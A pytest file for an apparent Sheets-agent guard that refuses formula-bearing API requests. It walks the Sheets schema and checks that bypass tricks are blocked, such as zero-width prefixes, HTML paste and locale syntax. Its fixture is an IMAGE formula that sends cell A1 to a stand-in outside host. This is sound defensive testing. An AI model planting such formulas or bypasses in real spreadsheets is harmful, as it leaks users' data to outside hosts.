"""Every text of every request that can become a formula is judged: proved over the discovery document."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest
from googleapiclient.discovery_cache import get_static_doc

from sheets_agent.formulas.policy import FunctionPolicy
from sheets_agent.guard.fields import PLAIN, formulas, refusals

SCHEMAS = json.loads(get_static_doc("sheets", "v4"))["schemas"]
EVIL = '=IMAGE("https://q9z.example/?"&A1)'
POLICY = FunctionPolicy()
FORMULAS = {
    ("ExtendedValue", "formulaValue"),
    ("ConditionValue", "userEnteredValue"),
    ("PivotValue", "formula"),
    ("DataSourceColumn", "formula"),
    ("PasteDataRequest", "data"),
    ("FindReplaceRequest", "replacement"),
}
"""The fields that Google's own words say are parsed as formulas."""


def texts(schema: str, seen: tuple[str, ...] = ()) -> Iterator[tuple[tuple[str, str], dict[str, Any]]]:
    """Every text below a message type, with a message that holds it; enumerations and read-only parts aside."""
    if schema in seen:
        return
    for name, field in SCHEMAS[schema].get("properties", {}).items():
        inner = field.get("items", field)
        if inner.get("type") == "string" and "enum" not in inner and inner.get("format") is None:
            yield (schema, name), {name: [EVIL] if "items" in field else EVIL}
        elif "$ref" in inner:
            for key, message in texts(inner["$ref"], (*seen, schema)):
                yield key, {name: [message] if "items" in field else message}


ALL = list(texts("Request"))


def test_the_walk_meets_every_field_that_is_parsed() -> None:
    assert {key for key, _ in ALL} >= FORMULAS


def test_every_text_is_judged_but_those_that_stay_texts() -> None:
    missed = {key for key, message in ALL if not refusals(message, POLICY, "en_US")}
    assert {name for _, name in missed} <= PLAIN
    assert not missed & FORMULAS


def test_allowed_functions_pass_everywhere_but_where_google_queries_something_itself() -> None:
    allowed = FunctionPolicy(frozenset({"IMAGE", "HYPERLINK"}))
    kept = [message for key, message in ALL if key in FORMULAS and refusals(message, allowed, "en_US")]
    assert all("ataSource" in json.dumps(message) for message in kept)


@pytest.mark.parametrize(
    "request_",
    [
        {"pasteData": {"data": f"a\tb\n1\t{EVIL}", "delimiter": "\t"}},
        {"pasteData": {"data": f'a,b\n1,"{EVIL[:6]}(1)"', "delimiter": ","}},
        {"pasteData": {"data": "<table><tr><td>=IMAGE(&quot;x&quot;)</td></tr></table>", "html": True}},
        {"findReplace": {"find": "SUM", "replacement": "IMAGE", "includeFormulas": True}},
        {"findReplace": {"find": "x", "replacement": "\u200b" + EVIL}},
        {"setDataValidation": {"rule": {"condition": {"values": [{"userEnteredValue": "+IMAGE(A1)"}]}}}},
        {"updateCells": {"rows": [{"values": [{"userEnteredValue": {"formulaValue": EVIL[1:]}}]}]}},
        {"updateCells": {"rows": [{"values": [{"userEnteredFormat": {"textFormat": {"link": {"uri": "https://q9z"}}}}]}]}},
        {"addDataSource": {"dataSource": {"spec": {"bigQuery": {"querySpec": {"rawQuery": "select 1"}}}}}},
        {"updateCells": {"rows": [{"values": [{"dataSourceFormula": {"dataSourceId": "1"}}]}]}},
    ],
)  # fmt: skip
def test_ways_around_are_closed(request_: dict[str, Any]) -> None:
    assert refusals(request_, POLICY, "en_US")


@pytest.mark.parametrize(
    "request_",
    [
        {"updateCells": {"rows": [{"values": [{"userEnteredValue": {"stringValue": EVIL}}]}]}},
        {"updateCells": {"rows": [{"values": [{"userEnteredValue": {"formulaValue": "=SUM(A1:A3)"}}]}]}},
        {"findReplace": {"find": "=IMAGE(", "replacement": ""}},
        {"pasteData": {"data": "a\tb\n-5\t+5", "delimiter": "\t"}},
        {"addChart": {"chart": {"spec": {"title": "Images by =month"}}}},
        {"addSheet": {"properties": {"title": "Import"}}},
    ],
)
def test_ordinary_requests_pass(request_: dict[str, Any]) -> None:
    assert refusals(request_, POLICY, "en_US") == ()


def test_formulas_are_read_in_the_locale_of_the_spreadsheet() -> None:
    request = {"repeatCell": {"cell": {"userEnteredValue": {"formulaValue": '=ЕСЛИ(1,5;IMAGE("x"))'}}}}
    assert any("IMAGE" in why for why in refusals(request, POLICY, "ru_RU"))
    decimal = {"repeatCell": {"cell": {"userEnteredValue": {"formulaValue": "=SUM(1,5;{1\\2})"}}}}
    assert refusals(decimal, POLICY, "ru_RU") == ()
    assert list(formulas(decimal, "ru_RU")) == ["=SUM(1.5,{1,2})"]
